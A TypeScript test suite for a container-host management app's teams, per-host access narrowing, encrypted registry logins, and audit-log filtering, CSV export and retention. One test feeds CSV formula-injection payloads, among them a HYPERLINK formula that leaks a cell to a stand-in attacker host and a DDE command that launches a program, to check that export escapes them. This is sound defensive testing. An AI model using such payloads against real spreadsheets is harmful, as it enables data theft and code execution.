// Several teams per user, per-host narrowing, registry logins sealed at rest, and the
// audit log's filters, CSV export and retention, through the real routers, the real
// export route handler and a real SQLite database.
import assert from 'node:assert/strict';
import { readFileSync, statSync } from 'node:fs';
import path from 'node:path';
import { after, before, test } from 'node:test';
import { TRPCError } from '@trpc/server';
import { callerFor, makeWorld, openEnv, type Caller, type Env, type World } from '../fixtures/authz-world';

let env: Env;
before(async () => {
  env = await openEnv();
});
after(async () => {
  await env?.close();
});

async function rejects(p: Promise<unknown>, code: string, message?: RegExp) {
  await assert.rejects(p, (e: unknown) => {
    assert.ok(e instanceof TRPCError, String(e));
    assert.equal(e.code, code, e.message);
    if (message) assert.match(e.message, message);
    return true;
  });
}

test('a user creates a second team, switches between them, and every list follows the current team', async () => {
  const w = await makeWorld(env.prisma);
  const admin = await callerFor(w, 'admin');
  assert.deepEqual((await admin.hosts.list()).map((h) => h.id).sort(), [w.hostA1, w.hostA2].sort());
  const t = await admin.team.create({ name: `Second ${w.n}` });
  let me = await admin.account.me();
  assert.equal(me.currentTeamId, t.id, 'a new team is the current one');
  assert.deepEqual(me.teams.map((x) => [x.name, x.role]), [[w.teamA.name, 'admin'], [`Second ${w.n}`, 'owner']]);
  assert.deepEqual(await admin.hosts.list(), [], 'the new team has no hosts');
  assert.equal((await admin.auth.status()).role, 'owner');
  const token = await admin.hosts.createJoinToken({ name: 'for the second team' });
  assert.equal((await env.prisma.joinToken.findFirstOrThrow({ where: { tokenHash: { not: '' }, name: 'for the second team' } })).teamId, t.id);
  assert.ok(token.command.includes(token.token));
  await admin.team.switch({ teamId: w.teamA.id });
  const switched = await env.prisma.auditLog.findFirstOrThrow({ where: { action: 'team.switch', teamId: w.teamA.id }, orderBy: { createdAt: 'desc' } });
  assert.deepEqual([switched.target, switched.result], [w.teamA.name, 'ok'], 'a switch is audited in the team switched to');
  me = await admin.account.me();
  assert.equal(me.currentTeamId, w.teamA.id);
  assert.equal((await admin.auth.status()).role, 'admin');
  assert.equal((await admin.hosts.list()).length, 2);
  await rejects(admin.team.switch({ teamId: w.teamB.id }), 'NOT_FOUND', /No such team/);
  await rejects(admin.team.create({ name: w.teamB.name }), 'CONFLICT', /exists already/);
});

test('an invitation accepted by a signed-in user adds the team and switches to it', async () => {
  const w = await makeWorld(env.prisma);
  const owner = await callerFor(w, 'owner');
  const stranger = await callerFor(w, 'stranger');
  const inv = await owner.team.invite({ teamId: w.teamA.id, role: 'viewer' });
  const r = await stranger.team.accept({ token: inv.token });
  assert.deepEqual(r, { team: w.teamA.name, role: 'viewer', newAccount: false });
  const me = await stranger.account.me();
  assert.deepEqual(me.teams.map((t) => t.name).sort(), [w.teamA.name, w.teamB.name].sort());
  assert.equal(me.currentTeamId, w.teamA.id);
  assert.equal((await stranger.hosts.list()).length, 2);
});

test('deleting a team: owners only, refused while it has hosts, and transfer of ownership', async () => {
  const w = await makeWorld(env.prisma);
  const owner = await callerFor(w, 'owner');
  const admin = await callerFor(w, 'admin');
  await rejects(admin.team.delete({ teamId: w.teamA.id, confirmName: w.teamA.name }), 'FORBIDDEN', /admin role cannot/);
  await rejects(owner.team.delete({ teamId: w.teamA.id, confirmName: 'wrong' }), 'BAD_REQUEST', /type the team's name/);
  await rejects(owner.team.delete({ teamId: w.teamA.id, confirmName: w.teamA.name }), 'CONFLICT', /still has 2 hosts: move them to another team or revoke them first/);
  await owner.team.transferOwnership({ teamId: w.teamA.id, userId: w.users.admin.id });
  const roles = await env.prisma.membership.findMany({ where: { teamId: w.teamA.id, userId: { in: [w.users.owner.id, w.users.admin.id] } } });
  assert.deepEqual(Object.fromEntries(roles.map((m) => [m.userId === w.users.owner.id ? 'was owner' : 'was admin', m.role])), { 'was owner': 'admin', 'was admin': 'owner' });
  // The former admin now owns it; once its hosts are gone it can be deleted.
  await admin.hosts.revoke({ hostId: w.hostA1 });
  await admin.hosts.revoke({ hostId: w.hostA2 });
  const auditBefore = await env.prisma.auditLog.findMany({ where: { teamId: w.teamA.id }, orderBy: { id: 'asc' } });
  await admin.team.delete({ teamId: w.teamA.id, confirmName: w.teamA.name });
  assert.equal(await env.prisma.membership.count({ where: { teamId: w.teamA.id } }), 0, 'nobody is in it any more');
  assert.equal(await env.prisma.registry.count({ where: { teamId: w.teamA.id } }), 0, 'its registry logins are gone');
  assert.equal(await env.prisma.invitation.count({ where: { teamId: w.teamA.id } }), 0, 'its invitations are gone');
  assert.ok((await env.prisma.team.findUniqueOrThrow({ where: { id: w.teamA.id } })).deletedAt);
  await rejects(admin.team.members({ teamId: w.teamA.id }), 'NOT_FOUND');
  assert.equal((await admin.account.me()).teams.some((t) => t.id === w.teamA.id), false);
  // Its audit rows are as they were; the deletion is one more.
  const auditAfter = await env.prisma.auditLog.findMany({ where: { teamId: w.teamA.id }, orderBy: { id: 'asc' } });
  assert.deepEqual(auditAfter.filter((r) => auditBefore.some((b) => b.id === r.id)), auditBefore);
  const row = auditAfter.find((r) => r.action === 'team.delete' && r.result === 'ok')!;
  assert.equal(row.userId, w.users.admin.id);
  assert.equal(row.target, `${w.teamA.name} (${w.teamA.id})`);
  // The name is free again.
  await admin.team.create({ name: w.teamA.name });
});

test('moving a host to another team needs admin in both; the old team loses it at once; audited in both', async () => {
  const w = await makeWorld(env.prisma);
  const admin = await callerFor(w, 'admin');
  const other = await admin.team.create({ name: `Target ${w.n}` });
  await rejects(admin.hosts.move({ hostId: w.hostA1, teamId: w.teamB.id }), 'NOT_FOUND', /No such team/);
  // admin of A, but only viewer of a third team
  const third = await env.prisma.team.create({ data: { name: `Third ${w.n}`, memberships: { create: { userId: w.users.admin.id, role: 'viewer' } } } });
  await rejects(admin.hosts.move({ hostId: w.hostA1, teamId: third.id }), 'FORBIDDEN', /needs admin in both/);
  await admin.hosts.move({ hostId: w.hostA1, teamId: other.id });
  const viewer = await callerFor(w, 'viewer');
  assert.deepEqual((await viewer.hosts.list()).map((h) => h.id), [w.hostA2]);
  await rejects(viewer.hosts.get({ hostId: w.hostA1 }), 'NOT_FOUND');
  const rows = await env.prisma.auditLog.findMany({ where: { hostId: w.hostA1, action: { in: ['hosts.move', 'hosts.moveIn'] }, result: 'ok' } });
  assert.deepEqual(rows.map((r) => [r.action, r.teamId]).sort(), [['hosts.move', w.teamA.id], ['hosts.moveIn', other.id]].sort());
});

test('a narrowed role sees only its hosts, in lists and on each host; admins cannot be narrowed; promotion widens', async () => {
  const w = await makeWorld(env.prisma);
  const admin = await callerFor(w, 'admin');
  const narrowed = await callerFor(w, 'narrowed');
  assert.deepEqual((await narrowed.hosts.list()).map((h) => h.id), [w.hostA2]);
  assert.equal((await narrowed.images.fleet({})).hosts, 1);
  await rejects(narrowed.hosts.get({ hostId: w.hostA1 }), 'NOT_FOUND', /No such host/);
  await rejects(narrowed.containers.start({ hostId: w.hostA1, id: 'c' }), 'NOT_FOUND', /No such host/);
  await rejects(narrowed.containers.start({ hostId: w.hostA2, id: 'c' }), 'PRECONDITION_FAILED', /offline/);
  // The Team page's edit: the viewer to host A1 only, then back to every host.
  await admin.team.setHosts({ teamId: w.teamA.id, userId: w.users.viewer.id, hostIds: [w.hostA1] });
  const viewer = await callerFor(w, 'viewer');
  assert.deepEqual((await viewer.hosts.list()).map((h) => h.id), [w.hostA1]);
  const members = await admin.team.members({ teamId: w.teamA.id });
  assert.deepEqual(members.members.find((m) => m.userId === w.users.viewer.id)!.hostIds, [w.hostA1]);
  // Another member is not told which hosts the viewer has (A1 is hidden from the narrowed operator).
  const seen = await narrowed.team.members({ teamId: w.teamA.id });
  assert.equal(seen.members.find((m) => m.userId === w.users.viewer.id)!.hostIds, undefined);
  assert.deepEqual(seen.members.find((m) => m.me)!.hostIds, [w.hostA2]);
  await admin.team.setHosts({ teamId: w.teamA.id, userId: w.users.viewer.id, hostIds: [] });
  assert.deepEqual(await viewer.hosts.list(), [], 'narrowed to no hosts sees none (not all)');
  await admin.team.setHosts({ teamId: w.teamA.id, userId: w.users.viewer.id, hostIds: null });
  assert.equal((await viewer.hosts.list()).length, 2);
  await rejects(admin.team.setHosts({ teamId: w.teamA.id, userId: w.users.viewer.id, hostIds: ['not-a-host'] }), 'NOT_FOUND', /no such host in this team: not-a-host/);
  const owner = await callerFor(w, 'owner');
  await rejects(owner.team.setHosts({ teamId: w.teamA.id, userId: w.users.admin.id, hostIds: [w.hostA1] }), 'BAD_REQUEST', /cannot be narrowed/);
  // A revoked host drops out of a narrowing, which stays a narrowing (to nothing).
  await admin.hosts.revoke({ hostId: w.hostA2 });
  assert.deepEqual(await narrowed.hosts.list(), []);
  await owner.team.setRole({ teamId: w.teamA.id, userId: w.users.narrowed.id, role: 'admin' });
  assert.deepEqual((await narrowed.hosts.list()).map((h) => h.id), [w.hostA1], 'an admin sees every host of the team');
});

test('registry logins: sealed with AES-256-GCM under the data dir key (0600), never returned, rotatable, admins only, audited', async () => {
  const w = await makeWorld(env.prisma);
  const admin = await callerFor(w, 'admin');
  const operator = await callerFor(w, 'operator');
  const { id } = await admin.registries.add({ server: 'https://Registry.Example.test:5443/', username: 'robot', secret: 'hunter2-very-secret' });
  const list = await admin.registries.list();
  const mine = list.find((r) => r.id === id)!;
  assert.deepEqual({ ...mine, updatedAt: 'x' }, { id, server: 'registry.example.test:5443', username: 'robot', secretSet: true, updatedAt: 'x' });
  assert.ok(!JSON.stringify(list).includes('hunter2'), 'the list never carries a secret');
  const stored = await env.prisma.registry.findUniqueOrThrow({ where: { id } });
  assert.match(stored.secret, /^v1:[A-Za-z0-9+/=]+$/);
  assert.ok(!stored.secret.includes('hunter2'));
  const keyFile = path.join(env.dir, 'secret-box.key');
  assert.equal(statSync(keyFile).mode & 0o777, 0o600);
  assert.match(readFileSync(keyFile, 'utf8').trim(), /^[0-9a-f]{64}$/);
  const { registryAuthFor } = await import('../../server/registries');
  assert.deepEqual(await registryAuthFor(env.prisma, w.teamA.id, 'registry.example.test:5443/app:1'), { username: 'robot', password: 'hunter2-very-secret' });
  assert.equal(await registryAuthFor(env.prisma, w.teamB.id, 'registry.example.test:5443/app:1'), undefined, "another team's pulls do not get it");
  // A sealed secret copied to another team's row does not open there.
  await env.prisma.registry.create({ data: { teamId: w.teamB.id, server: 'registry.example.test:5443', username: 'thief', secret: stored.secret } });
  await assert.rejects(registryAuthFor(env.prisma, w.teamB.id, 'registry.example.test:5443/app:1'), /cannot decrypt/);
  await admin.registries.rotate({ registryId: id, secret: 'new-secret-2' });
  assert.equal((await registryAuthFor(env.prisma, w.teamA.id, 'registry.example.test:5443/x'))!.password, 'new-secret-2');
  await rejects(operator.registries.list(), 'FORBIDDEN');
  await rejects(operator.registries.add({ server: 'r.example.test', username: 'u', secret: 's' }), 'FORBIDDEN');
  await rejects(admin.registries.add({ server: 'not a host!', username: 'u', secret: 's' }), 'BAD_REQUEST', /not a registry host/);
  await rejects(admin.registries.add({ server: 'registry.example.test:5443', username: 'u', secret: 's' }), 'CONFLICT', /rotate it or remove it/);
  await admin.registries.remove({ registryId: id });
  const removal = await env.prisma.auditLog.findFirstOrThrow({ where: { teamId: w.teamA.id, action: 'registries.remove' } });
  assert.equal(removal.address, '192.0.2.1', 'where the action came from');
  const actions = (await env.prisma.auditLog.findMany({ where: { teamId: w.teamA.id, action: { startsWith: 'registries.' } }, orderBy: { createdAt: 'asc' } })).map((r) => `${r.action} ${r.result.split(':')[0]}`);
  assert.deepEqual(actions, ['registries.add ok', 'registries.rotate ok', 'registries.add error', 'registries.add error', 'registries.add error', 'registries.remove ok']);
  assert.ok(!(await env.prisma.auditLog.findMany({ where: { teamId: w.teamA.id } })).some((r) => JSON.stringify(r).includes('hunter2')), 'no secret in the audit log');
});

test('BERTH_SECRET_KEY: a key from the environment, and a bad one refused by name', async () => {
  const { secretKey, seal, open } = await import('../../server/auth/secret-box');
  const key = 'ab'.repeat(32);
  const sealed = seal('s3cret', 'aad', secretKey({ BERTH_SECRET_KEY: key }));
  assert.equal(open(sealed, 'aad', secretKey({ BERTH_SECRET_KEY: key })), 's3cret');
  assert.throws(() => open(sealed, 'aad', secretKey({})), /cannot decrypt/);
  assert.throws(() => open(sealed, 'other', secretKey({ BERTH_SECRET_KEY: key })), /cannot decrypt/);
  assert.throws(() => secretKey({ BERTH_SECRET_KEY: 'short' }), /BERTH_SECRET_KEY: must be 32 bytes/);
});

async function exportCsv(w: World, who: Exclude<Caller, 'signedOut'> | 'signedOut', query = ''): Promise<Response> {
  const { GET } = await import('../../app/api/audit/export/route');
  const cookie: Record<string, string> = who === 'signedOut' ? {} : { cookie: w.users[who].cookie };
  return GET(new Request(`http://localhost:3999/api/audit/export${query}`, { headers: { ...cookie, 'x-berth-client-address': '192.0.2.10' } }));
}

test('audit: filters by user, host, action and time; CSV export quoted properly, admins only', async () => {
  const w = await makeWorld(env.prisma);
  const t0 = new Date('2026-01-01T00:00:00Z');
  const at = (min: number) => new Date(t0.getTime() + min * 60_000);
  await env.prisma.auditLog.createMany({
    data: [
      { teamId: w.teamA.id, userId: w.users.operator.id, hostId: w.hostA1, action: 'containers.start', target: 'web, "the, front"', result: 'ok', createdAt: at(1), address: '2001:db8::7' },
      { teamId: w.teamA.id, userId: w.users.admin.id, hostId: w.hostA2, action: 'containers.stop', target: 'line one\nline two', result: 'error: CONFLICT: busy', createdAt: at(2) },
      { teamId: w.teamA.id, userId: w.users.operator.id, hostId: w.hostA2, action: 'images.pull', target: 'busybox', result: 'ok', createdAt: at(3), address: '10.0.0.7' },
      { teamId: w.teamB.id, userId: w.users.stranger.id, action: 'containers.start', target: 'other team', result: 'ok', createdAt: at(2) },
    ],
  });
  const admin = await callerFor(w, 'admin');
  const range = { from: at(0).toISOString(), to: at(10).toISOString() };
  const targets = async (f: object) => (await admin.audit.list({ ...range, ...f })).map((r) => r.target);
  assert.deepEqual(await targets({}), ['busybox', 'line one\nline two', 'web, "the, front"']);
  assert.deepEqual(await targets({ userId: w.users.operator.id }), ['busybox', 'web, "the, front"']);
  assert.deepEqual(await targets({ hostId: w.hostA2 }), ['busybox', 'line one\nline two']);
  assert.deepEqual(await targets({ action: 'containers.' }), ['line one\nline two', 'web, "the, front"']);
  assert.deepEqual(await targets({ action: 'containers.start' }), ['web, "the, front"']);
  assert.deepEqual(await targets({ from: at(2).toISOString(), to: at(3).toISOString() }), ['line one\nline two']);
  await rejects(admin.audit.list({ from: at(3).toISOString(), to: at(2).toISOString() }), 'BAD_REQUEST', /after from/);
  const page1 = await admin.audit.search({ ...range, take: 2 });
  const page2 = await admin.audit.search({ ...range, take: 2, cursor: page1.nextCursor! });
  assert.deepEqual([...page1.rows, ...page2.rows].map((r) => r.target), await targets({}));
  assert.equal(page2.nextCursor, null);

  const res = await exportCsv(w, 'owner', `?from=${encodeURIComponent(range.from)}&to=${encodeURIComponent(range.to)}`);
  assert.equal(res.status, 200);
  assert.match(res.headers.get('content-type')!, /^text\/csv/);
  assert.match(res.headers.get('content-disposition')!, /attachment; filename="berth-audit-\d{4}-\d{2}-\d{2}\.csv"/);
  const csv = await res.text();
  const e = (id: string) => `${w.users[id as 'admin'].email},${w.users[id as 'admin'].id}`;
  assert.equal(
    csv,
    'time,user,user id,from,action,host,host id,target,result\r\n' +
      `2026-01-01T00:03:00.000Z,${e('operator')},10.0.0.7,images.pull,a2-${w.hostA1Name.slice(3)},${w.hostA2},busybox,ok\r\n` +
      `2026-01-01T00:02:00.000Z,${e('admin')},,containers.stop,a2-${w.hostA1Name.slice(3)},${w.hostA2},"line one\nline two",error: CONFLICT: busy\r\n` +
      `2026-01-01T00:01:00.000Z,${e('operator')},2001:db8::7,containers.start,${w.hostA1Name},${w.hostA1},"web, ""the, front""",ok\r\n`,
  );
  // Who may not export, each with its status; nothing of team A in any answer.
  const refusals: Array<[Caller, number]> = [['admin', 200], ['operator', 403], ['viewer', 403], ['narrowed', 403], ['stranger', 200], ['held', 403], ['revoked', 401], ['signedOut', 401]];
  for (const [who, status] of refusals) {
    const r = await exportCsv(w, who, who === 'stranger' ? '' : `?teamId=${w.teamA.id}`);
    const body = await r.text();
    assert.equal(r.status, status, `${who}: ${body.slice(0, 200)}`);
    if (who !== 'admin') assert.ok(!body.includes('containers.stop'), `${who} gets none of team A's rows`);
  }
  assert.equal((await exportCsv(w, 'stranger', `?teamId=${w.teamA.id}`)).status, 404, "another team's owner is told it does not exist");
  assert.equal((await exportCsv(w, 'owner', '?action=drop%20table')).status, 400);
  const exported = await env.prisma.auditLog.findFirstOrThrow({ where: { teamId: w.teamA.id, action: 'audit.export' } });
  assert.equal(exported.userId, w.users.owner.id);
  assert.equal(exported.address, '192.0.2.10', 'the export names where it was asked from');
});

test('audit CSV: a field that a spreadsheet would run as a formula is written as text', async () => {
  const { csvField } = await import('../../server/audit/query');
  // What a stranger can put in an audit row: the email typed at a failed sign-in, a container's name.
  assert.equal(csvField('=HYPERLINK("http://evil.example/?"&A1,"x") from 192.0.2.1'), `"'=HYPERLINK(""http://evil.example/?""&A1,""x"") from 192.0.2.1"`);
  assert.equal(csvField('+1+cmd|/c calc!A0'), "'+1+cmd|/c calc!A0");
  assert.equal(csvField('-2+3'), "'-2+3");
  assert.equal(csvField('@SUM(1)'), "'@SUM(1)");
  assert.equal(csvField('\t=1'), "'\t=1");
  assert.equal(csvField('web=1'), 'web=1', 'only a leading sign makes a formula');
  assert.equal(csvField('2026-01-01T00:00:00.000Z'), '2026-01-01T00:00:00.000Z');
  assert.equal(csvField(null), '');
});

test('audit retention deletes only rows older than the retention, per team setting or BERTH_AUDIT_RETENTION_DAYS', async () => {
  const w = await makeWorld(env.prisma);
  const { pruneAudit, envRetentionDays } = await import('../../server/audit/retention');
  // Now, so the rows the test's own calls write (setRetention's) are new, as they would be.
  const now = new Date(Date.now() + 60_000);
  const daysAgo = (d: number) => new Date(now.getTime() - d * 86_400_000);
  await env.prisma.auditLog.deleteMany({});
  await env.prisma.auditLog.createMany({
    data: [
      { teamId: w.teamA.id, action: 'a.old', result: 'ok', createdAt: daysAgo(40) },
      { teamId: w.teamA.id, action: 'a.recent', result: 'ok', createdAt: daysAgo(20) },
      { teamId: w.teamB.id, action: 'b.old', result: 'ok', createdAt: daysAgo(40) },
      { teamId: w.teamB.id, action: 'b.ancient', result: 'ok', createdAt: daysAgo(400) },
      { teamId: null, action: 'none.ancient', result: 'ok', createdAt: daysAgo(400) },
    ],
  });
  const owner = await callerFor(w, 'owner');
  await rejects((await callerFor(w, 'admin')).audit.setRetention({ days: 30 }), 'FORBIDDEN', /owner/);
  await owner.audit.setRetention({ days: 30 });
  // No environment setting: only team A's rule applies.
  assert.equal(await pruneAudit(env.prisma, now, null), 1);
  const left = async () => (await env.prisma.auditLog.findMany({ where: { NOT: { action: { startsWith: 'audit.' } } }, orderBy: { action: 'asc' } })).map((r) => r.action);
  assert.deepEqual(await left(), ['a.recent', 'b.ancient', 'b.old', 'none.ancient']);
  assert.equal(await pruneAudit(env.prisma, now, 365), 2);
  assert.deepEqual(await left(), ['a.recent', 'b.old']);
  assert.equal(envRetentionDays({ BERTH_AUDIT_RETENTION_DAYS: '90' }), 90);
  assert.equal(envRetentionDays({}), null);
  assert.throws(() => envRetentionDays({ BERTH_AUDIT_RETENTION_DAYS: '0' }), /BERTH_AUDIT_RETENTION_DAYS="0": a whole number of days/);
  assert.throws(() => envRetentionDays({ BERTH_AUDIT_RETENTION_DAYS: 'ten' }), /a whole number/);
});

test('which registry an image reference names, and what counts as a registry host', async () => {
  const { referenceRegistry, registryServer } = await import('../../server/registries');
  const cases: Array<[string, string]> = [
    ['busybox', 'docker.io'],
    ['library/busybox:1', 'docker.io'],
    ['someone/app', 'docker.io'],
    ['index.docker.io/library/busybox', 'docker.io'],
    ['127.0.0.1:5000/team/app:v1', '127.0.0.1:5000'],
    ['localhost/app', 'localhost'],
    ['Registry.Example.com/app@sha256:' + '0'.repeat(64), 'registry.example.com'],
  ];
  assert.deepEqual(cases.map(([r]) => referenceRegistry(r)), cases.map(([, d]) => d));
  assert.equal(registryServer(' https://Registry.Example.com:5443/v2/ '), 'registry.example.com:5443');
  assert.equal(registryServer('registry-1.docker.io'), 'docker.io');
  assert.equal(registryServer('[::1]:5000'), '[::1]:5000');
  for (const bad of ['', 'a b', 'host:port', '-bad.example', 'bad!host']) assert.equal(registryServer(bad), null, bad);
});
